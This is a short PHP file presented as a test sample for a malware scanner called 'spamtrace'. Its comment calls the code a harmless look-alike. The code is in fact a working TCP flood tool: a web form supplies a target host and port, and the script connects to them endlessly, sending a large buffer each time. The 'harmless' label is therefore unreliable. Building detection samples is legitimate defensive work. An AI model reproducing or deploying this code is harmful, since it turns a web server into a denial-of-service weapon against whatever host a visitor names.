<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A TCP flood: a function that connects over and over to the host it is given and writes a
// big buffer each time, for ever; the host comes from the form.
function hammer($target, $port) {
    $junk = str_repeat(chr(255), 60000);
    $s = @fsockopen('tcp://' . $target, $port, $en, $es, 3);
    while (true) {
        if ($s) {
            fwrite($s, $junk);
            fclose($s);
        }
        $s = @fsockopen('tcp://' . $target, $port, $en, $es, 3);
    }
}
if (isset($_POST['go'])) {
    hammer($_POST['victim'], (int) $_POST['p']);
}
